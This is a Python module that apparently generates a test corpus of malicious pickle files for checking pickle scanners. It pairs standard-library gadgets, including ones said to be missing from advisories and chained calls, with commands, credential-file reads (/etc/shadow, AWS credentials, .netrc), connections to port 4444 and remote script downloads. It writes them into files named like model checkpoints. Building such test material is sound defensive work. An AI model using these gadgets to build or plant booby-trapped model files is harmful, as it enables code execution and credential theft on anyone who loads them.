"""Functions of Python's own library that run, read, write or load something when a pickle calls them."""

from .pickles import Call, G, beside, pickle
from .store import COMMANDS, SOURCES, rng

# Named in published advisories of scanners: module, name, arguments. `$C` is a command, `$P` Python source.
ADVISED = [
    ("pty", "spawn", ["$C"]), ("cProfile", "run", ["$P"]), ("cProfile", "runctx", ["$P", {}, {}]),
    ("profile", "run", ["$P"]), ("profile", "runctx", ["$P", {}, {}]), ("profile", "Profile.run", [None, "$P"]),
    ("trace", "Trace.run", [None, "$P"]), ("trace", "Trace.runctx", [None, "$P"]),
    ("doctest", "debug_script", ["$P"]), ("doctest", "debug_src", ["$P"]), ("timeit", "timeit", ["$P", "pass"]),
    ("timeit", "repeat", ["$P", "pass", 0, 1, 1]), ("timeit", "main", [["-n1", "-r1", "$P"]]),
    ("ensurepip", "_run_pip", [["install", "corpus-pkg"]]),
    ("idlelib.run", "Executive.runcode", [None, "$P"]), ("idlelib.pyshell", "ModifiedInterpreter.runcommand", [None, "$P"]),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", [None, "$P"]),
    ("idlelib.calltip", "get_entity", ["__import__('os').system('true')"]),
    ("idlelib.calltip", "Calltip.fetch_tip", [None, "__import__('os').system('true')"]),
    ("idlelib.autocomplete", "AutoComplete.get_entity", [None, "__import__('os').getcwd()"]),
    ("idlelib.autocomplete", "AutoComplete.fetch_completions", [None, "__import__('os').getcwd()", 0]),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", [None, "$P"]),
    ("lib2to3.pgen2.grammar", "Grammar.loads", [None, b"cos\nsystem\n(S'true'\ntR."]),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", [None, None, "'x'+str(__import__('os').getpid())"]),
    ("code", "InteractiveInterpreter.runcode", [None, "$P"]), ("code", "interact", ["$P"]),
    ("bdb", "Bdb.run", [None, "$P"]), ("bdb", "Bdb.runeval", [None, "1"]), ("pdb", "run", ["$P"]),
    ("pdb", "runeval", ["__import__('os').getpid()"]),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", [None, "$C", True, None, None, None, 0]),
    ("logging", "FileHandler", ["/tmp/.corpus-touch"]), ("logging.config", "listen", [9030]),
    ("distutils.file_util", "write_file", ["/tmp/.corpus-w", ["x"]]), ("distutils.spawn", "spawn", [["true"]]),
    ("ctypes", "CDLL", ["./corpus.so"]), ("ctypes", "WinDLL", ["kernel32.dll"]), ("ctypes", "PyDLL", ["/tmp/c.so"]),
    ("pydoc", "locate", ["os.system"]), ("pydoc", "pipepager", ["corpus", "$C"]), ("pydoc", "tempfilepager", ["t", "true"]),


    ("runpy", "run_path", ["/tmp/corpus.py"]), ("runpy", "_run_code", ["$P", {}]), ("runpy", "run_module", ["antigravity"]),
    ("webbrowser", "open", ["https://corpus.example/x"]), ("aifc", "open", ["/tmp/.corpus-aifc", "w"]),
    ("smtplib", "SMTP", ["mail.corpus.example", 25]), ("ftplib", "FTP", ["ftp.corpus.example"]),
    ("imaplib", "IMAP4_stream", ["$C"]), ("uuid", "_get_command_stdout", ["true"]),
    ("_osx_support", "_read_output", ["$C"]), ("_osx_support", "_find_build_tool", ["clang; true"]),
    ("_aix_support", "_read_cmd_output", ["$C"]), ("_pyrepl.pager", "pipe_pager", ["corpus", "$C"]),
    ("test.support.script_helper", "assert_python_ok", ["-c", "$P"]),
    ("ssl", "get_server_certificate", [("corpus.example", 443)]),
    ("io", "FileIO", ["/etc/shadow", "r"]), ("urllib.request", "urlopen", ["http://corpus.example/p"]),
    ("_io", "open", ["/tmp/.corpus-o", "w"]), ("nt", "system", ["$C"]),
    ("commands", "getoutput", ["$C"]), ("posix", "popen", ["$C"]), ("platform", "popen", ["$C"]),
]
# On nobody's list of advisories when this was written.
UNLISTED = [
    ("importlib", "import_module", ["this"]),


    ("imp", "load_source", ["m", "/tmp/c.py"]),
    ("imp", "load_dynamic", ["m", "/tmp/c.so"]), ("marshal", "loads", [b"c\0\0"]),
    ("zipimport", "zipimporter.load_module", [None, "m"]),
    ("multiprocessing.util", "spawnv_passfds", [b"/bin/true", [b"true"], []]),
    ("multiprocessing.spawn", "_main", [0, 0]),
    ("multiprocessing.spawn", "import_main_path", ["/tmp/corpus.py"]),

    ("multiprocessing.connection", "Client", [("10.1.2.3", 6000)]), ("multiprocessing.forkserver", "main", [3, 4, ["os"]]),

    ("rlcompleter", "Completer.attr_matches", [None, "__import__('os').x"]),
    ("dataclasses", "_create_fn", ["f", ["a=__import__('os').getpid()"], ["return a"]]),
    ("site", "addsitedir", ["/tmp/corpus-site"]), ("site", "addpackage", ["/tmp", "corpus.pth", None]),
    ("site", "execsitecustomize", []),
    ("_thread", "start_new_thread", [G("os", "abort"), ()]),
    ("signal", "raise_signal", [9]),
    ("atexit", "register", [G("os", "system"), "$C"]), ("weakref", "finalize", [None, G("os", "system"), "$C"]),
    ("faulthandler", "_sigsegv", []),
    ("os", "posix_spawn", ["/bin/true", ["true"], {}]), ("os", "execvp", ["true", ["true"]]), ("os", "putenv", ["LD_PRELOAD", "/tmp/c.so"]),
    ("os", "symlink", ["/etc/passwd", "/tmp/.corpus-l"]), ("os", "removedirs", ["/tmp/.corpus-d"]), ("os", "kill", [1, 0]),
    ("posix", "unlink", ["/tmp/.corpus-u"]), ("posix", "fork", []), ("_posixsubprocess", "fork_exec", [["true"], [b"/bin/true"]]),
    ("_winapi", "CreateProcess", [None, "cmd.exe /c ver"]), ("winreg", "SetValue", [0, "Software\\Corpus", 1, "x"]),
    ("subprocess", "getstatusoutput", ["$C"]), ("subprocess", "Popen", [["true"]]), ("popen2", "popen3", ["$C"]),
    ("shutil", "rmtree", ["/tmp/.corpus-gone"]), ("shutil", "copyfile", ["/etc/hostname", "/tmp/.c"]),
    ("shutil", "unpack_archive", ["/tmp/c.tar", "/"]), ("shutil", "chown", ["/tmp/.c", "nobody"]),

    ("zipfile", "ZipFile", ["/tmp/c.zip", "w"]),
    ("zipapp", "create_archive", ["/tmp", "/tmp/c.pyz"]), ("fileinput", "input", [["/etc/hostname"], True]),
    ("linecache", "getlines", ["/root/.aws/credentials"]), ("codecs", "open", ["/tmp/.c", "w"]), ("gzip", "open", ["/tmp/.c.gz", "wb"]),
    ("sqlite3", "connect", ["/tmp/.corpus.db"]), ("dbm.dumb", "open", ["/tmp/.corpus-dbm", "n"]), ("shelve", "open", ["/tmp/c.shelf"]),
    ("socket", "create_connection", [("10.9.8.7", 4444)]), ("socketserver", "TCPServer", [("0.0.0.0", 4444), None]),
    ("http.server", "HTTPServer", [("0.0.0.0", 8099), None]),
    ("telnetlib", "Telnet", ["10.9.8.7", 23]),
    ("urllib.request", "urlretrieve", ["http://corpus.example/x.sh", "/tmp/x.sh"]),
    ("asyncio", "create_subprocess_shell", ["$C"]), ("asyncio.subprocess", "create_subprocess_exec", ["true"]),
    ("asyncio.base_events", "BaseEventLoop.subprocess_shell", [None, None, "$C"]),
    ("builtins", "compile", ["$P", "m", "exec"]), ("builtins", "__build_class__", [G("os", "getpid"), "C"]),
    ("builtins", "breakpoint", []), ("builtins", "__import__", ["antigravity"]), ("builtins", "open", ["/tmp/.corpus", "w"]),
    ("functools", "reduce", [G("builtins", "eval"), ["$P"]]),
    ("compileall", "compile_dir", ["/tmp"]),
    ("py_compile", "compile", ["/tmp/corpus.py"]),
    ("tkinter.commondialog", "Dialog.show", [None]), ("tkinter", "Tk.readprofile", [None, "corpus", "x"]),
    ("unittest.main", "main", ["corpus"]), ("unittest.mock", "_importer", ["os.system"]),
    ("venv", "create", ["/tmp/corpus-venv"]), ("wsgiref.simple_server", "make_server", ["", 8099, None]),
    ("xml.sax", "parse", ["http://corpus.example/d.xml", None]),
    ("sys", "settrace", [G("os", "system")]), ("sys", "addaudithook", [G("os", "system")]),
    ("warnings", "_setoption", ["error:::corpus.x"]), ("_testcapi", "run_in_subinterp", ["$P"]),
    ("_xxsubinterpreters", "run_string", [1, "$P"]), ("_interpreters", "exec", [1, "$P"]),
    ("nntplib", "NNTP", ["10.9.8.7"]),
    ("modulefinder", "ModuleFinder.run_script", [None, "/tmp/c.py"]), ("netrc", "netrc", ["/root/.netrc"]),
]


def chains():
    """Gadgets that need an object first: what the first call gives is called, or handed to the second."""
    def load(finder, loader, path):
        return Call(G(finder, f"{loader}.load_module"), Call(G(finder, loader), "m", path))

    spec = Call(G("importlib.util", "spec_from_file_location"), "m", "/tmp/corpus.so")
    os = Call(G("importlib", "import_module"), "os")
    path = Call(G("pathlib", "PosixPath"), "/tmp/.corpus-path")
    return {
        "operator.methodcaller": Call(Call(G("operator", "methodcaller"), "system", "true"), os),
        "_operator.methodcaller": Call(Call(G("_operator", "methodcaller"), "popen", "echo corpus"), os),
        "_operator.attrgetter": Call(Call(Call(G("_operator", "attrgetter"), "system"), os), "true"),
        "pkgutil.resolve_name": Call(Call(G("pkgutil", "resolve_name"), "os:system"), "true"),
        "importlib._bootstrap._load": Call(G("importlib._bootstrap", "_load"), spec),
        "_imp.create_dynamic": Call(G("_imp", "create_dynamic"), spec),
        "importlib.util.module_from_spec": Call(G("importlib.util", "module_from_spec"), spec),
        "SourceFileLoader": load("importlib.machinery", "SourceFileLoader", "/tmp/c.py"),
        "SourcelessFileLoader": load("importlib.machinery", "SourcelessFileLoader", "/tmp/c.pyc"),
        "_frozen_importlib_external": load("_frozen_importlib_external", "SourceFileLoader", "/tmp/c.py"),
        "zipimporter": Call(G("zipimport", "zipimporter.load_module"), Call(G("zipimport", "zipimporter"), "/tmp/c.zip"), "m"),
        "http.client": Call(G("http.client", "HTTPConnection.request"), Call(G("http.client", "HTTPConnection"), "10.9.8.7"), "GET", "/c"),
        "pathlib.Path.write_text": Call(G("pathlib", "Path.write_text"), path, "corpus"),
        "pathlib.Path.unlink": Call(G("pathlib", "Path.unlink"), path),
        "threading.Timer.run": Call(G("threading", "Timer.run"), Call(G("threading", "Timer"), 0, G("os", "getpid"))),
        "sched.scheduler.run": Call(G("sched", "scheduler.run"), Call(G("sched", "scheduler"))),
        "tarfile.extractall": Call(G("tarfile", "TarFile.extractall"), Call(G("tarfile", "open"), "/tmp/c.tar"), "/"),
        "types.FunctionType": Call(Call(G("types", "FunctionType"), Call(G("marshal", "loads"), b"c\0\0\0"), {})),
        "asyncio.events.Handle._run": Call(G("asyncio.events", "Handle._run"), Call(G("asyncio.events", "Handle"), G("os", "system"), ["true"], None)),
        "concurrent.futures": Call(G("concurrent.futures", "ThreadPoolExecutor.submit"), Call(G("concurrent.futures", "ThreadPoolExecutor"), 1), G("os", "system"), "true"),
        "subprocess.Popen.communicate": Call(G("subprocess", "Popen.communicate"), Call(G("subprocess", "Popen"), ["true"])),
    }


NAMES = ["weights.pkl", "model.bin", "clf.pickle", "scaler.joblib", "head.pt", "state.pth", "vocab.dill", "cache.dat", "embed.ckpt"]


def fill(arguments, chance):
    """Arguments with commands and sources put in."""
    put = {"$C": chance.choice(COMMANDS), "$P": chance.choice(SOURCES)}
    return [put.get(each, each) if isinstance(each, str) else each for each in arguments]


def write(corpus, kind, gadgets):
    """Each gadget once, in some protocol, alone or in what looks like a checkpoint."""
    for number, (module, name, arguments) in enumerate(gadgets):
        chance = rng(kind, number, module, name)
        call = Call(G(module, name), *fill(arguments, chance))
        value = beside(call, chance) if chance.random() < 0.4 else call
        proto = chance.choice([2, 3, 4, 4, 5]) if "." not in name else chance.choice([4, 5])
        corpus.add(kind, "pickle", chance.choice(NAMES), pickle(value, proto), f"calls {module}.{name}")


def make(corpus):
    write(corpus, "ghsa-stdlib", ADVISED)
    write(corpus, "stdlib-unlisted", UNLISTED)
    for label, value in chains().items():
        chance = rng("chain", label)
        kind = "ghsa-stdlib" if "operator" in label or "pkgutil" in label else "stdlib-unlisted"
        corpus.add(kind, "pickle", chance.choice(NAMES), pickle(value, chance.choice([4, 5])), f"calls through {label}")
